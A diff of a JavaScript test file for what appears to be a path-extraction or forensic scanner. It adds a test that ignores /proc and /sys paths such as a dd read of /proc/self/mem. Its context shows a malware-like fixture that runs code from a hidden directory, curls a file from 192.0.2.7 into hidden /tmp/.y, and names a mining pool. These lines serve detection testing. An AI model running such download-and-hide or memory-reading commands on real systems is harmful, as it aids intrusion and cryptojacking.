@@ -195,6 +195,23 @@ test('a file fact says whose it is, how old, and where its copies are', async ()
   })
 })
 
+test('what a script names below /proc and /sys is no file', async () => {
+  const script = '#!/bin/sh\ndd if=/proc/self/mem skip=5\n/proc/self/exe -B\ncat /sys/kernel/notes\n/srv/app/own\n'
+  const found = await paths(
+    {
+      '/opt/run.sh': { content: script, mode: 0o755 },
+      '/srv/app/own': { content: elf('own'), mode: 0o755 },
+      '/proc/self': { link: '7' },
+      '/proc/7/mem': '',
+      '/proc/7/exe': { link: '/opt/lamp/runtime/node' },
+      '/opt/lamp/runtime/node': { content: elf('node'), mode: 0o755 },
+      '/sys/kernel/notes': 'notes',
+    },
+    '/opt/run.sh',
+  )
+  assert.deepEqual(found, ['/opt/run.sh file autostart', '/srv/app/own file named-by-file'])
+})
+
 test('targets and endpoints of scripts and configurations', async () => {
   const script = '#!/bin/sh\ncd /opt/.x && ./run\ncurl http://192.0.2.7:8080/x -o /tmp/.y\n# /not/this\n'
   const config = '{"pools": [{"url": "pool.example:3333"}], "log-file": "/var/log/x.log"}'
